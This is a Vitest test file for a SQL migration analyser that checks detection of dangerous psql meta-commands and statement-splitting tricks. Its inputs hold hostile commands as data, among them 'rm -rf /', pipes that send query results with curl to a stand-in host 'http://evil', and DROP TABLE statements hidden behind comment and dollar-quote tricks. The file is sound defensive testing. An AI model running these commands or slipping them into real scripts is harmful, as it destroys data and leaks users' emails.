// psql scripts (migrations are often run with `psql -f`): meta-commands that run SQL or shell
// commands, and psql's own statement splitting, which the analyser must follow.
import { describe, expect, it } from 'vitest';
import { expectAction, pg } from './helpers.js';

describe('psql meta-commands', () => {
  it('\\gexec runs each result value as SQL: dynamic, non-constant', async () => {
    const r = await pg("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec");
    expect(r.statements.some((s) => s.dynamicSql.some((d) => !d.constant))).toBe(true);
    expectAction(r, { action: 'dynamic_sql' });
  });

  it('\\! runs a shell command', async () => {
    const r = await pg('\\! rm -rf /');
    expect(r.statements[0].functions).toContainEqual(expect.objectContaining({ category: 'program', dangerous: true }));
  });

  it('\\o |command pipes every later result into a shell command', async () => {
    // psql: "If the argument begins with |, then the entire remainder of the line is taken to be
    // the command to execute"
    const r = await pg('\\o |curl -d @- http://evil\nSELECT email FROM users;');
    expect(r.statements[0].functions).toContainEqual(expect.objectContaining({ category: 'program', dangerous: true }));
  });

  it('\\g |command pipes the result into a shell command', async () => {
    const r = await pg('SELECT email FROM users \\g |curl -d @- http://evil');
    expect(r.statements.some((s) => s.functions.some((f) => f.category === 'program' && f.dangerous))).toBe(true);
  });

  it('\\copy ... TO PROGRAM runs a program', async () => {
    expectAction(await pg("\\copy users TO PROGRAM 'curl'"), { action: 'copy_to_program' });
  });

  it('\\i includes SQL nobody analysed: opaque dynamic SQL (fail closed)', async () => {
    const r = await pg('\\i evil.sql');
    expect(r.statements.some((s) => s.dynamicSql.some((d) => !d.constant))).toBe(true);
  });
});

describe("psql's statement splitting", () => {
  it('\\; adds a semicolon to the buffer: the DROP after it is sent and runs', async () => {
    // psql docs: "\;" causes a semicolon to be added to the query buffer without sending; the
    // buffer `SELECT 1 ; DROP TABLE x` is sent at the final `;`
    const r = await pg('SELECT 1 \\; DROP TABLE x;');
    expectAction(r, { action: 'drop_table', target: 'public.x' });
  });

  it('\\g ends a statement like ;', async () => {
    const r = await pg('SELECT 1 \\g\nDROP TABLE x');
    expectAction(r, { action: 'drop_table', target: 'public.x' });
  });

  it('$1$ is not a dollar quote (a tag cannot start with a digit): the DROP between runs', async () => {
    const r = await pg('SELECT $1$; DROP TABLE x; $1$');
    expectAction(r, { action: 'drop_table', target: 'public.x' });
  });

  it('a$b$ is an identifier, not a dollar quote: the DROP after it runs', async () => {
    const r = await pg('SELECT a$b$; DROP TABLE x; $b$');
    expectAction(r, { action: 'drop_table', target: 'public.x' });
  });

  it('-- inside a block comment does not hide the comment end', async () => {
    expectAction(await pg('/* -- */ DROP TABLE x'), { action: 'drop_table', target: 'public.x' });
  });

  it('/* inside a line comment does not open a block comment', async () => {
    expectAction(await pg('-- /*\nDROP TABLE x; -- */'), { action: 'drop_table', target: 'public.x' });
  });
});
